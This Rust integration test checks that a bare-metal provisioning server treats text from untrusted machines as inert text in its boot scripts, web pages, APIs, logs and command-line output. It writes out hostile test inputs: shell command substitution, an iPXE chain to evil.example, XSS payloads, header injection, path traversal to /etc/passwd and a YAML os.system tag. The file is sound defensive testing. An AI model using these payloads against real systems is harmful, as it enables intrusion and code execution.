//! What strangers write about themselves, wherever it is shown or used: it is text there and nothing else.
//!
//! One machine for each hostile text, which says it of everything that it can say: its inventory, its anchors,
//! the system on its disk, its log, why its run failed, the names of files that it asks for.
#![allow(clippy::unwrap_used, reason = "a test fails by panicking, its helpers too")]

use std::net::SocketAddr;
use std::process::{Command, Stdio};
use std::sync::Arc;

use axum::body::Body;
use axum::http::Request;
use dragonfly_core::Mac;
use dragonfly_core::boot::{BootObserver as _, BootProvider as _, BootRequest, Ended, Seen, Sighting};
use dragonfly_core::engine::AssignRequest;
use dragonfly_core::resource::HardwareSpec;
use dragonfly_core::resource::hardware::Overwrite;
use dragonfly_core::text::acts;
use dragonfly_core::wire::{Hello, Report};
use dragonfly_server::config::Options;
use dragonfly_server::http::{self, App};
use dragonfly_server::listen::Connection;
use dragonfly_server::serve::start;
use http_body_util::BodyExt as _;
use serde_json::{Value, json};
use tokio_util::sync::CancellationToken;
use tower::ServiceExt as _;

const SETUP: &str = "
apiVersion: dragonfly.computer/v1
kind: Network
metadata: { name: lab }
spec: { interface: nowhere0, dhcp: full, subnet: 10.9.0.0/24, pool: { start: 10.9.0.100, end: 10.9.0.199 } }
---
apiVersion: dragonfly.computer/v1
kind: Template
metadata: { name: small }
spec:
  actions:
    - name: motd
      action: writefile
      with: { target: { label: root }, path: /etc/motd, content: '{{ inventory.system.serial }}' }
    - { name: reboot, action: reboot }
";

/// The longest text of a stranger's that may be anywhere, in bytes.
const LONGEST: usize = 4096;

fn hostile() -> Vec<(&'static str, String)> {
    vec![
        ("a command", "$(reboot)`reboot`;reboot|reboot&&reboot".into()),
        ("a script of its own", "x\n#!ipxe\nshell\nchain http://evil.example/".into()),
        ("iPXE's own words", "${net0/mac} || shell ; goto disk_efi && exit".into()),
        ("a terminal's commands", "\u{1b}[2J\u{1b}]0;owned\u{7}\u{1b}[31mred\u{9b}1m\u{8}\u{8}\u{7f}".into()),
        ("a page's script", "<script>alert(1)</script>".into()),
        ("the end of an attribute", "\"><img src=x onerror=alert(1)>' onmouseover='alert(1)".into()),
        ("quotes and backslashes", "\"'`\\\"\\'\\\\ \\u0000 \\x1b[2J".into()),
        ("nothing", "a\0b".into()),
        ("right to left", "invoice\u{202e}gpj.exe\u{2066}\u{200f}\u{2028}\u{feff}".into()),
        ("very long", "A".repeat(64 * 1024)),
        ("a template", "{{ 7 * 7 }}{% for x in range(9) %}x{% endfor %}{{ values }}".into()),
        ("a manifest", "x: &a [*a]\n---\nkind: Secret\n!!python/object:os.system".into()),
        ("a path", "../../../../etc/passwd".into()),
        ("a header", "x\r\nSet-Cookie: dragonfly_session=evil\r\n\r\n<html>".into()),
        ("an event", "x\n\nevent: machine.ready\ndata: {}\n\n".into()),
        ("a measurement", "x\"} 1\ndragonfly_machines{phase=\"Ready\"} 999".into()),
        ("a configuration", "\"\n[server]\nhost = \"0.0.0.0\"\n".into()),
    ]
}

struct Machine {
    what: &'static str,
    said: String,
    mac: Mac,
    name: String,
}

struct Site {
    app: App,
    address: SocketAddr,
    dir: tempfile::TempDir,
    stop: CancellationToken,
    machines: Vec<Machine>,
}

impl Drop for Site {
    fn drop(&mut self) {
        self.stop.cancel();
    }
}

fn peer(n: usize) -> SocketAddr {
    SocketAddr::from(([10, 9, 0, 100 + u8::try_from(n).unwrap()], 4711))
}

fn hello(said: &str, mac: Mac, n: usize) -> Hello {
    let module = json!({ "locator": said, "size": 1024, "manufacturer": said, "serial": said, "partNumber": said });
    serde_json::from_value(json!({
        "protocol": { "min": 1, "max": 1 },
        "agent": said,
        "bootId": uuid::Uuid::from_u128(n as u128 + 1),
        "mac": mac,
        // The serial must differ from machine to machine, or they would be one.
        "anchors": { "macs": [mac], "serial": format!("{n}{said}"), "product": said },
        "inventory": {
            "system": { "vendor": said, "product": said, "serial": said, "boardSerial": said, "bios": said },
            "cpu": { "model": said, "cores": 8, "threads": 16 },
            "memory": { "total": 1024, "modules": [module] },
            "disks": [{ "name": said, "size": 480103981056_u64, "serial": said, "model": said, "bus": said, "blank": true }],
            "nics": [{ "name": said, "mac": mac, "driver": said }],
            "bmc": { "interface": said, "users": [{ "slot": 2, "name": said }] },
            "tpm": said, "hypervisor": said, "bootInterface": said,
        },
        // A machine with a system on its disk is not installed without a word more: every other has one.
        "existingOs": (n % 2 == 1).then(|| json!({ "name": said, "disk": said, "evidence": said })),
        "uptimeSeconds": 3.0,
    }))
    .unwrap()
}

async fn site() -> Site {
    let dir = tempfile::tempdir().unwrap();
    let options = Options {
        host: Some("127.0.0.1".parse().unwrap()),
        port: Some(0),
        data: Some(dir.path().join("data")),
        ..Options::default()
    };
    let stop = CancellationToken::new();
    let server = start(options.settle().unwrap(), stop.clone()).await.unwrap();
    let (app, address) = (server.app().clone(), server.address());
    tokio::spawn(server.run());
    app.engine.apply(SETUP, "test").await.unwrap();
    let mut machines = Vec::new();
    for (n, (what, said)) in hostile().into_iter().enumerate() {
        let mac: Mac = format!("52:54:00:66:00:{n:02x}").parse().unwrap();
        let name = register(&app, mac, &said, n).await;
        machines.push(Machine { what, said, mac, name });
    }
    Site { app, address, dir, stop, machines }
}

/// Everything that a machine says on its way, up to a run that fails.
async fn register(app: &App, mac: Mac, said: &str, n: usize) -> String {
    let (engine, from) = (&app.engine, peer(n).ip());
    let saw = |seen| engine.saw(Sighting { mac: Some(mac), from: Some(from), seen });
    saw(Seen::HttpRefused { path: said.to_owned(), status: 404, why: said.to_owned() });
    saw(Seen::TftpEnded {
        file: said.to_owned(),
        bytes: 1,
        passed: 0,
        block: 512,
        milliseconds: 1,
        ended: Ended::Refused,
        why: said.to_owned(),
    });
    let to = Some("10.9.0.1:3000".parse().unwrap());
    let request = BootRequest { from: Some(from), to, ..BootRequest::from_mac(mac) };
    let identity = engine.identity(&request).await.unwrap().expect("an unknown machine is given one");
    let welcome = engine.hello(identity.token.reveal(), hello(said, mac, n), from).await.unwrap();
    let session = welcome.session.reveal();
    engine.log(session, 0, format!("{said}\n").into_bytes().into()).await.unwrap();
    let assign = AssignRequest { template: "small".into(), overwrite: Overwrite::All, ..AssignRequest::default() };
    let run = engine.assign(&welcome.machine, assign, "test").await.unwrap();
    let machine = engine.cache().get::<HardwareSpec>(&welcome.machine).unwrap();
    let generation = machine.status.authorisation.as_ref().unwrap().generation;
    let report = |what: Value| {
        let mut report = json!({ "workflow": run.metadata.name, "attempt": 1, "generation": generation });
        report.as_object_mut().unwrap().extend(what.as_object().unwrap().clone());
        serde_json::from_value::<Report>(report).unwrap()
    };
    for what in [
        json!({ "report": "began" }),
        json!({ "report": "step", "index": 0, "event": "began" }),
        json!({ "report": "step", "index": 0, "event": "progressed", "progress": { "done": 1, "total": 2, "unit": "bytes" } }),
        json!({ "report": "step", "index": 0, "event": "failed", "failure": { "message": said, "causes": vec![said; 40] } }),
    ] {
        engine.report(session, report(what)).await.unwrap();
    }
    welcome.machine
}

/// Asks as a person at the server.
async fn get(site: &Site, path: &str) -> (http_body_util::Collected<axum::body::Bytes>, axum::http::HeaderMap) {
    let cookie = format!("dragonfly_session={}", site.app.auth.new_session().unwrap().reveal());
    let mut request = Request::builder().uri(path).header("cookie", cookie).body(Body::empty()).unwrap();
    let local = "127.0.0.1:3000".parse().unwrap();
    request.extensions_mut().insert(Connection { peer: "127.0.0.1:9".parse().unwrap(), local, tls: true });
    let response = http::app(site.app.clone()).oneshot(request).await.unwrap();
    assert_eq!(response.status(), 200, "{path}");
    let headers = response.headers().clone();
    (response.into_body().collect().await.unwrap(), headers)
}

async fn text(site: &Site, path: &str) -> String {
    let (body, headers) = get(site, path).await;
    assert!(!format!("{headers:?}").contains("evil"), "{path}: {headers:?}");
    String::from_utf8(body.to_bytes().to_vec()).unwrap()
}

/// Every text in a JSON value is bounded and acts on nothing.
fn all_quiet(value: &Value, whose: &str) {
    match value {
        Value::String(text) => {
            // A message may hold a failure and its cause; the end of a log has a bound of its own.
            let most = if whose.ends_with(".logTail") { 64 << 10 } else { LONGEST * 2 + 100 };
            assert!(text.len() <= most, "{whose}: a text of {} bytes", text.len());
            let bad = text.chars().find(|c| acts(*c) && *c != '\n' && *c != '\t');
            assert_eq!(bad, None, "{whose}: {text:?}");
        }
        Value::Array(items) => items.iter().for_each(|item| all_quiet(item, whose)),
        Value::Object(map) => map.iter().for_each(|(key, item)| all_quiet(item, &format!("{whose}.{key}"))),
        Value::Null | Value::Bool(_) | Value::Number(_) => {}
    }
}

/// A page is of our own elements, none of which carries a script.
fn page_holds(page: &str, whose: &str) {
    const OURS: &str = " html head title meta link script body header main footer nav section h1 h2 h3 p a div span table \
        thead tbody tr th td time dl dt dd ul ol li code pre strong em small form label input select option textarea button \
        fieldset legend details summary progress noscript img br hr !doctype ";
    for tag in page.split('<').skip(1) {
        let name: String =
            tag.trim_start_matches('/').chars().take_while(|c| !c.is_whitespace() && *c != '>').collect();
        assert!(OURS.contains(&format!(" {} ", name.to_lowercase())), "{whose}: <{name}> in {page}");
        let inside = tag.split('>').next().unwrap_or_default();
        // What stands in quotes is a value: a quote that is not escaped within would have ended it.
        let mut quote = None;
        let names: String = inside
            .chars()
            .filter(|c| match quote {
                Some(open) => {
                    quote = (open != *c).then_some(open);
                    false
                }
                None => {
                    quote = matches!(c, '"' | '\'').then_some(*c);
                    true
                }
            })
            .collect();
        let handler = names.split_whitespace().any(|word| word.to_lowercase().starts_with("on"));
        assert!(!handler && quote.is_none(), "{whose}: <{inside}>");
        if ["script", "img"].contains(&name.as_str()) && !tag.starts_with('/') {
            assert!(inside.contains("src=\"/assets/"), "{whose}: <{inside}>");
        }
    }
    let bad = page.chars().find(|c| acts(*c) && *c != '\n' && *c != '\t');
    assert_eq!(bad, None, "{whose}");
    assert!(!page.contains("49{%") && !page.contains("javascript:"), "{whose}");
}

#[tokio::test(flavor = "multi_thread")]
async fn what_strangers_write_is_text_wherever_it_is_shown() {
    let site = site().await;
    let calm = site.app.engine.timeline("52:54:00:66:ff:ff", 0).map(|timeline| timeline.items.len());
    assert!(calm.is_ok());
    for machine in &site.machines {
        let Machine { what, said, mac, name } = machine;

        let query: String = url::form_urlencoded::byte_serialize(&said.as_bytes()[..said.len().min(4000)]).collect();
        let script = text(&site, &format!("/boot/{mac}?serial={query}&manufacturer={query}")).await;
        // Whatever it says: so many lines, of letters that mean nothing but where they are ours.
        assert_eq!(script.matches("#!ipxe").count(), 1, "{what}: {script}");
        let echo = script.lines().nth(1).unwrap();
        let plain = |c: char| c.is_ascii_alphanumeric() || " .:/_-".contains(c);
        assert!(echo.starts_with("echo Dragonfly: ") && echo.chars().all(plain), "{what}: {echo}");
        assert!(script.is_ascii() && !script.contains("reboot)") && !script.contains("evil"), "{what}: {script}");
        for line in script.lines().filter(|line| line.starts_with("kernel ")) {
            let want = "kernel ${files}/vmlinuz initrd=initramfs initrd=identity dragonfly.mac=";
            assert!(line.starts_with(want) && line.split(' ').count() == 11, "{what}: {line}");
        }

        for path in [format!("/machines/{name}"), format!("/fragments/machines/{name}")] {
            page_holds(&text(&site, &path).await, what);
        }
        for path in ["", "/timeline", "/why", "/events"] {
            let answer = text(&site, &format!("/dragonfly/v1/machines/{name}{path}")).await;
            all_quiet(&serde_json::from_str(&answer).unwrap(), &format!("{what} {path}"));
        }
        let log = text(&site, &format!("/dragonfly/v1/machines/{name}/log")).await;
        assert!(!log.chars().any(|c| acts(c) && c != '\n' && c != '\t'), "{what}: {log:?}");
        // And what it said is there, so that all this is not about nothing.
        let object = site.app.engine.cache().get::<HardwareSpec>(name).unwrap();
        let kept = object.status.inventory.as_ref().unwrap().system.serial.clone().unwrap();
        assert!(!kept.is_empty() && kept.len() <= 512, "{what}: {}", kept.len());
        assert!(said.len() > 512 || said.chars().any(acts) || kept == *said, "{what}: {kept:?}");
    }
    for path in ["/", "/fragments/machines", "/fragments/sightings"] {
        page_holds(&text(&site, path).await, path);
    }
    for path in
        ["/dragonfly/v1/machines", "/apis/dragonfly.computer/v1/hardware", "/apis/dragonfly.computer/v1/workflows"]
    {
        let answer: Value = serde_json::from_str(&text(&site, path).await).unwrap();
        all_quiet(&answer, path);
        assert!(answer["items"].as_array().unwrap().len() >= site.machines.len(), "{path}");
    }
    for event in site.app.engine.events().subscribe(Some(0)).replay {
        all_quiet(&serde_json::to_value(&*event).unwrap(), "an event");
    }
    for line in text(&site, "/metrics").await.lines() {
        assert!(line.starts_with("# ") || line.starts_with("dragonfly_"), "{line}");
        // The value that a stranger's text would set; digits within a measured time are no such thing.
        assert!(!line.ends_with(" 999"), "{line}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn the_command_line_shows_it_as_text() {
    let site = Arc::new(site().await);
    for machine in &site.machines {
        let Machine { what, name, .. } = machine;
        for words in [
            vec!["get", "machines"],
            vec!["get", "machine", name, "-o", "json"],
            vec!["get", "machine", name, "-o", "yaml"],
            vec!["get", "workflows", "-o", "wide"],
            vec!["describe", "machine", name],
            vec!["timeline", name],
            vec!["why", name],
            vec!["log", name],
        ] {
            let mut command = Command::new(env!("CARGO_BIN_EXE_dragonfly"));
            command.args(&words).env_clear().env("DRAGONFLY_DATA", site.dir.path().join("data"));
            command.env("DRAGONFLY_SERVER", format!("http://{}", site.address)).stdin(Stdio::null());
            let done = tokio::task::spawn_blocking(move || command.output().unwrap()).await.unwrap();
            let (out, err) = (String::from_utf8(done.stdout).unwrap(), String::from_utf8(done.stderr).unwrap());
            for shown in [&out, &err] {
                let bad = shown.chars().find(|c| acts(*c) && *c != '\n' && *c != '\t');
                assert_eq!(bad, None, "{what}: {words:?}: {shown:?}");
            }
            assert!(done.status.success(), "{what}: {words:?}: {err}");
            if words.contains(&"yaml") {
                let parsed = dragonfly_core::resource::manifest::parse(&out);
                assert_eq!(parsed.unwrap_or_else(|e| panic!("{what}: {e}\n{out}")).len(), 1, "{what}: {out}");
            }
        }
    }
}
